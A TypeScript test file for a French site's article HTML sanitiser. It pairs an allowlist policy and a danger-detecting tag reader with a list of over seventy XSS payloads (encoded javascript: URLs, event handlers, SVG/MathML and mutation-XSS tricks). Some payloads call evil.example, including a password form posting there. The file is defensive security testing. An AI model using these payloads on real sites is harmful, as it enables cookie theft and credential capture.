import { describe, expect, it } from "vitest";
import { bundledArticles } from "./bundled-articles.server";
import { renderArticleBody, tableOfContents } from "./render.server";
import { sanitizeArticleHtml } from "./sanitize-article.server";

// The policy, written out again here so that a loosened allowlist in the module fails these tests.
const allowedAttributes: Record<string, string[]> = {
  p: [],
  h2: ["id"],
  h3: ["id"],
  strong: [],
  b: [],
  em: [],
  i: [],
  u: [],
  s: [],
  ul: [],
  ol: ["start", "type"],
  li: [],
  a: ["href", "title", "rel", "target", "class", "aria-label"],
  blockquote: [],
  img: ["src", "alt", "width", "height", "loading"],
  br: [],
  hr: [],
  figure: [],
  figcaption: [],
  code: [],
  pre: ["class", "data-diagram"],
  div: ["class", "data-faq", "data-article-component"],
  table: [],
  thead: [],
  tbody: [],
  tr: [],
  th: ["scope"],
  td: [],
  details: ["class", "name"],
  summary: [],
};
const forbiddenTags = ["script", "iframe", "object", "embed", "svg", "math", "style", "base", "meta", "form", "link", "template"];
const urlAttributes = ["href", "src", "srcset", "action", "formaction", "xlink:href", "data", "poster", "background", "cite"];
const resourceAttributes = ["src", "srcset", "poster", "background", "data"];

interface Tag {
  name: string;
  attributes: [string, string][];
}

/**
 * Reads markup the simple way the sanitiser writes it: start tags with their attributes (quoted or not),
 * end tags, and text. A "<" that opens neither is reported, since the sanitiser escapes every "<" of text.
 */
function readTags(html: string): { tags: Tag[]; strayBrackets: number } {
  const tags: Tag[] = [];
  let strayBrackets = 0;
  let position = html.indexOf("<");
  while (position !== -1) {
    const rest = html.slice(position);
    const endTag = /^<\/[a-zA-Z][^\s/>]*\s*>/.exec(rest);
    const startTag = /^<([a-zA-Z][^\s/>]*)/.exec(rest);
    if (endTag) {
      position += endTag[0].length;
    } else if (startTag) {
      position += startTag[0].length;
      const attributes: [string, string][] = [];
      for (;;) {
        const close = /^[\s/]*>/.exec(html.slice(position));
        if (close) {
          position += close[0].length;
          break;
        }
        const attribute = /^[\s/]*([^\s/>=]+)(?:\s*=\s*(?:"([^"]*)"|'([^']*)'|([^\s>]*)))?/.exec(html.slice(position));
        if (!attribute) {
          position = html.length;
          break;
        }
        attributes.push([(attribute[1] ?? "").toLowerCase(), attribute[2] ?? attribute[3] ?? attribute[4] ?? ""]);
        position += attribute[0].length;
      }
      tags.push({ name: (startTag[1] ?? "").toLowerCase(), attributes });
    } else {
      strayBrackets++;
      position++;
    }
    position = html.indexOf("<", position);
  }
  return { tags, strayBrackets };
}

const namedEntities: Record<string, string> = {
  amp: "&",
  lt: "<",
  gt: ">",
  quot: '"',
  apos: "'",
  colon: ":",
  tab: "\t",
  newline: "\n",
  sol: "/",
  nbsp: "\u00a0",
};

function decodeEntities(text: string): string {
  return text.replace(/&(#x[0-9a-f]+|#\d+|[a-z]+);?/gi, (entity, name: string) => {
    if (name.startsWith("#x") || name.startsWith("#X")) return String.fromCodePoint(Number.parseInt(name.slice(2), 16));
    if (name.startsWith("#")) return String.fromCodePoint(Number.parseInt(name.slice(1), 10));
    return namedEntities[name.toLowerCase()] ?? entity;
  });
}

/** What a browser would follow: entities decoded, control characters and spaces (which it skips) removed. */
const followedUrl = (value: string) => decodeEntities(value).replace(/[\p{Cc}\s]/gu, "");

/** Everything that could run code, load from elsewhere or escape the allowlist in this markup. */
function dangers(html: string): string[] {
  const found: string[] = [];
  if (/<script/i.test(html)) found.push("<script");
  const { tags, strayBrackets } = readTags(html);
  if (strayBrackets > 0) found.push(`${strayBrackets} unescaped "<"`);
  for (const tag of tags) {
    if (forbiddenTags.includes(tag.name)) found.push(`<${tag.name}>`);
    const allowed = allowedAttributes[tag.name];
    if (!allowed) found.push(`<${tag.name}> outside the allowlist`);
    for (const [name, value] of tag.attributes) {
      if (name.startsWith("on")) found.push(`${name} handler on <${tag.name}>`);
      if (allowed && !allowed.includes(name)) found.push(`${name} on <${tag.name}> outside the allowlist`);
      const url = followedUrl(value);
      if (urlAttributes.includes(name) && /^(?:javascript|vbscript|data):/i.test(url)) found.push(`${name}="${value}"`);
      // Browsers read "//host" and "/\host" as another site.
      if (urlAttributes.includes(name) && /^[\\/]{2}/.test(url)) found.push(`${name}="${value}" leaves the site`);
      if (resourceAttributes.includes(name) && !/^\/(?:media|images)\/(?!.*\.\.)/.test(url))
        found.push(`${name}="${value}" loads from elsewhere`);
    }
  }
  return found;
}

// Payloads written for these tests, grouped by trick.
const payloads = [
  // Script elements, spelt every way.
  "<script>alert(1)</script>",
  "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
  "<ScRiPt>alert(document.cookie)</sCrIpT>",
  '<script/src="data:text/javascript,alert(1)"></script>',
  "<<script>alert(1)//<</script>",
  "<scr<script>ipt>alert(1)</scr</script>ipt>",
  "&lt;script&gt;alert(1)&lt;/script&gt;",
  "<script>document.write('<img src=x onerror=alert(1)>')</script><p>après</p>",
  // Event handlers.
  "<img src=x onerror=alert(1)>",
  '<img src="/media/a-800.webp" onload="alert(1)">',
  '<img src="/media/a-800.webp" alt="x"/onerror=alert(1)>',
  "<p onclick=\"alert('clic')\">texte</p>",
  "<details open ontoggle=alert(1)><summary>Question</summary></details>",
  "<body onload=alert(1)>",
  "<input autofocus onfocus=alert(1)>",
  '<video><source onerror="alert(1)"></video>',
  "<audio src=x onerror=alert(1)>",
  "<marquee onstart=alert(1)>défilement</marquee>",
  // SVG and MathML.
  "<svg onload=alert(1)>",
  "<svg><script>alert(1)</script></svg>",
  '<svg><a xlink:href="javascript:alert(1)"><text x="0" y="20">clic</text></a></svg>',
  '<svg><animate attributeName="href" values="javascript:alert(1)"/></svg>',
  '<math href="javascript:alert(1)">clic</math>',
  "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
  // javascript:, vbscript: and data: addresses.
  '<a href="javascript:alert(1)">clic</a>',
  '<a href="JaVaScRiPt:alert(1)">clic</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">clic</a>',
  '<a href="&#x6A;avascript&#x3A;alert(1)">clic</a>',
  '<a href="javascript&colon;alert(1)">clic</a>',
  '<a href="java&Tab;script:alert(1)">clic</a>',
  '<a href="java\nscript:alert(1)">clic</a>',
  '<a href="  javascript:alert(1)">clic</a>',
  '<a href="\u0001javascript:alert(1)">clic</a>',
  '<a/href="javascript:alert(1)">clic</a>',
  "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x31&#x29>",
  '<IMG SRC="javascript:alert(1);">',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">clic</a>',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  '<a href="vbscript:msgbox(1)">clic</a>',
  // Other origins.
  '<a href="//evil.example/">clic</a>',
  '<a href="/\\evil.example/">clic</a>',
  '<img src="//evil.example/x.png">',
  '<img src="https://evil.example/x.png">',
  '<img src="/images/../admin/deconnexion">',
  '<img srcset="https://evil.example/x.png 2x" src="/media/a-800.webp">',
  // Embedded documents.
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<iframe src="https://evil.example/"><p>repli</p>',
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  '<object type="image/svg+xml" data="https://evil.example/x.svg"></object>',
  '<embed src="https://evil.example/x.swf">',
  // Styles.
  '<style>body{background:url("javascript:alert(1)")}</style>',
  '<p style="width:expression(alert(1))">texte</p>',
  '<div style="background-image:url(javascript:alert(1))">texte</div>',
  '<img src="/media/a-800.webp" style="background:url(https://evil.example/t.gif)">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  // Document-level tricks.
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<base href="https://evil.example/">',
  '<form action="https://evil.example/collecte"><input name="mdp" type="password"><button>Envoyer</button></form>',
  '<form><button formaction="javascript:alert(1)">clic</button></form>',
  "<template><img src=x onerror=alert(1)></template>",
  // Parser confusion (mutation XSS).
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  "<noscript><style></noscript><img src=x onerror=alert(1)></style>",
  "<textarea><img src=x onerror=alert(1)></textarea>",
  "<title><img src=x onerror=alert(1)></title>",
  "<xmp><img src=x onerror=alert(1)></xmp>",
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  "<![CDATA[<script>alert(1)</script>]]>",
  '<img """><script>alert(1)</script>">',
  // Unclosed tags.
  "<p><img src=x onerror=alert(1)",
  '<a href="/contact" onmouseover=alert(1)//',
  "<script>alert(1)",
  // Attribute injection.
  "<img src=/images/x.png alt='x\" onerror=\"alert(1)'>",
  '<a href="/contact" title="&lt;/a&gt;&lt;img src=x onerror=alert(1)&gt;">clic</a>',
  "<a href='/x\" onclick=\"alert(1)'>clic</a>",
  // The article page's own hooks.
  '<div data-article-component="roi" onclick="alert(1)"></div>',
  '<div data-article-component="x&quot; onclick=&quot;alert(1)"></div>',
  '<pre data-diagram="" onmouseover="alert(1)">graph LR</pre>',
];

describe("article HTML sanitiser", () => {
  it("holds more than forty payloads", () => {
    expect(payloads.length).toBeGreaterThan(40);
  });

  it("has a check that finds each kind of danger, and not the text of an attribute", () => {
    expect(dangers("<script>alert(1)</script>")).toContain("<script");
    expect(dangers('<p onclick="alert(1)">x</p>')).toContain("onclick handler on <p>");
    expect(dangers('<a href="java&#x09;script:alert(1)">x</a>')).toContain('href="java&#x09;script:alert(1)"');
    expect(dangers('<a href="data:text/html,x">x</a>')).not.toEqual([]);
    expect(dangers('<a href="//evil.example/">x</a>')).not.toEqual([]);
    expect(dangers('<img src="https://evil.example/x.png">')).toContain('src="https://evil.example/x.png" loads from elsewhere');
    expect(dangers('<iframe src="/x"></iframe>')).toContain("<iframe>");
    expect(dangers('<p style="color:red">x</p>')).toContain("style on <p> outside the allowlist");
    expect(dangers("<p>1 < 2</p>")).toContain('1 unescaped "<"');
    expect(dangers('<img src="/media/a-800.webp" alt="x&quot; onerror=&quot;alert(1)" />')).toEqual([]);
  });

  it.each(payloads)("neutralises %s", (payload) => {
    const clean = sanitizeArticleHtml(payload);
    expect(dangers(clean)).toEqual([]);
    expect(sanitizeArticleHtml(clean)).toBe(clean);
  });

  it("keeps the text around a payload, and the text of a refused link", () => {
    expect(sanitizeArticleHtml('<p>Avant <a href="javascript:alert(1)">le lien</a> après</p>')).toBe("<p>Avant le lien après</p>");
    expect(sanitizeArticleHtml("<p>Texte<span onclick=alert(1)> gardé</span></p>")).toBe("<p>Texte gardé</p>");
  });

  it("drops the content of scripts and styles, not only their tags", () => {
    expect(sanitizeArticleHtml("<p>avant</p><script>const secret = 1;</script><style>p { color: red }</style><p>après</p>")).toBe(
      "<p>avant</p><p>après</p>",
    );
    expect(sanitizeArticleHtml("<template><p>caché</p></template><noscript>sans script</noscript><p>vu</p>")).toBe("<p>vu</p>");
  });

  it("keeps the editor's markup as it is", () => {
    const editor = [
      "<h2>Pourquoi publier chaque semaine&nbsp;?</h2>",
      "<p>Un texte avec du <strong>gras</strong>, du <b>gras aussi</b>, de l’<em>italique</em>, de l’<i>italique aussi</i>, ",
      "du <u>souligné</u>, du <s>barré</s> et du <code>code</code>.<br>Une ligne après un saut.</p>",
      "<h3>Les étapes</h3>",
      "<ul><li><p>Premier point</p></li><li><p>Second point avec un ",
      '<a target="_blank" rel="noopener noreferrer" href="https://www.example.com/guide?x=1&amp;y=2">lien externe</a></p></li></ul>',
      '<ol start="3"><li><p>Troisième point</p></li></ol>',
      "<blockquote><p>Une citation d’un client.</p></blockquote>",
      '<img src="/media/abc123-800.webp" alt="Une équipe au travail" width="800" height="533">',
      '<figure><img src="/images/articles/equipe.webp" alt=""><figcaption>Notre équipe à Douala</figcaption></figure>',
      '<p><a href="/contact">Contactez-nous</a>, écrivez à ',
      '<a href="mailto:contact@example.com">contact@example.com</a> ou appelez le <a href="tel:+237600000000">+237 6 00 00 00 00</a>.</p>',
      "<hr>",
      "<pre><code>const total = prix * 2 &lt; budget;</code></pre>",
    ].join("");
    // Only the spelling changes: a no-break space as itself, void elements closed with " />".
    const expected = editor.replace(/&nbsp;/g, "\u00a0").replace(/<(br|hr|img)([^>]*)>/g, "<$1$2 />");
    expect(sanitizeArticleHtml(editor)).toBe(expected);
  });

  it("turns h1 into h2 and h4 to h6 into h3", () => {
    expect(sanitizeArticleHtml("<h1>Titre</h1><h4>Un</h4><h5>Deux</h5><h6>Trois</h6>")).toBe(
      "<h2>Titre</h2><h3>Un</h3><h3>Deux</h3><h3>Trois</h3>",
    );
  });

  it("makes every link that leaves the site or opens a tab unable to reach back to the page", () => {
    expect(sanitizeArticleHtml('<a href="https://example.org/">externe</a>')).toBe(
      '<a href="https://example.org/" rel="noopener noreferrer">externe</a>',
    );
    expect(sanitizeArticleHtml('<a href="https://example.org/" target="_top" rel="opener">externe</a>')).toBe(
      '<a href="https://example.org/" target="_blank" rel="noopener noreferrer">externe</a>',
    );
    expect(sanitizeArticleHtml('<a href="/contact" rel="nofollow">interne</a>')).toBe('<a href="/contact" rel="nofollow">interne</a>');
    expect(sanitizeArticleHtml('<a href="#section">ancre</a>')).toBe('<a href="#section">ancre</a>');
  });

  it("keeps pictures of this site only, with their description", () => {
    expect(sanitizeArticleHtml('<img src="/media/a1b2-800.webp" alt="Un marché à Douala" loading="lazy">')).toBe(
      '<img src="/media/a1b2-800.webp" alt="Un marché à Douala" loading="lazy" />',
    );
    expect(sanitizeArticleHtml('<p>Avant<img src="https://images.example.com/x.jpg" alt="Ailleurs">après</p>')).toBe("<p>Avantaprès</p>");
    expect(sanitizeArticleHtml('<img src="/uploads/x.png" alt="Hors liste">')).toBe("");
  });

  it("keeps a component slot only when it is empty and correctly named, and class values only from the list", () => {
    expect(sanitizeArticleHtml('<div data-article-component="roi" class="article-faq"></div>')).toBe(
      '<div data-article-component="roi"></div>',
    );
    expect(sanitizeArticleHtml('<div data-article-component="roi"><p>Texte</p></div>')).toBe("<p>Texte</p>");
    expect(sanitizeArticleHtml('<div data-article-component="roi"><br></div>')).toBe("<br />");
    expect(sanitizeArticleHtml('<div data-article-component="Roi()"></div>')).toBe("<div></div>");
    expect(sanitizeArticleHtml('<div class="article-table fixed inset-0"><table><tr><td>1</td></tr></table></div>')).toBe(
      '<div class="article-table"><table><tr><td>1</td></tr></table></div>',
    );
    expect(sanitizeArticleHtml('<p class="article-table">Texte</p>')).toBe("<p>Texte</p>");
  });

  it("keeps every bundled article's text, slots, tables, FAQ and diagrams", () => {
    const articles = bundledArticles();
    expect(articles.length).toBeGreaterThanOrEqual(7);
    for (const { source } of articles) {
      const html = renderArticleBody(source.body, source.slug);
      const clean = sanitizeArticleHtml(html);

      expect(textContent(clean), source.slug).toBe(textContent(html));
      expect(elementCounts(clean), source.slug).toEqual(elementCounts(html));
      expect(componentSlots(clean), source.slug).toEqual(componentSlots(html));
      expect(diagrams(clean), source.slug).toEqual(diagrams(html));
      expect(clean.match(/<details class="article-faq-item" name="faq-[a-z0-9-]+">/g), source.slug).toEqual(
        html.match(/<details class="article-faq-item" name="faq-[a-z0-9-]+">/g),
      );
      expect(tableOfContents(clean), source.slug).toEqual(tableOfContents(html));
      // Apart from how the renderer spells ' and " in text, the stored HTML passes unchanged.
      expect(clean, source.slug).toBe(respellQuotesInText(html));
      expect(sanitizeArticleHtml(clean), source.slug).toBe(clean);
    }
    const all = articles.map(({ source }) => renderArticleBody(source.body, source.slug)).join("");
    expect(componentSlots(all).length).toBeGreaterThan(0);
    expect(diagrams(all).length).toBeGreaterThan(0);
    expect(all).toContain('<div class="article-table"><table>');
    expect(all).toContain('<div class="article-faq" data-faq="">');
  });
});

function textContent(html: string): string {
  return decodeEntities(html.replace(/<[^>]*>/g, ""));
}

function elementCounts(html: string): Record<string, number> {
  const counts: Record<string, number> = {};
  for (const tag of readTags(html).tags) counts[tag.name] = (counts[tag.name] ?? 0) + 1;
  return counts;
}

function componentSlots(html: string): string[] {
  return [...html.matchAll(/<div data-article-component="([a-z-]+)"><\/div>/g)].map((match) => match[1] ?? "");
}

function diagrams(html: string): string[] {
  return [...html.matchAll(/<pre class="mermaid" data-diagram="">([\s\S]*?)<\/pre>/g)].map((match) => decodeEntities(match[1] ?? ""));
}

function respellQuotesInText(html: string): string {
  return html
    .split(/(<[^>]*>)/)
    .map((part) => (part.startsWith("<") ? part : part.replace(/&#39;/g, "'").replace(/&quot;/g, '"')))
    .join("");
}
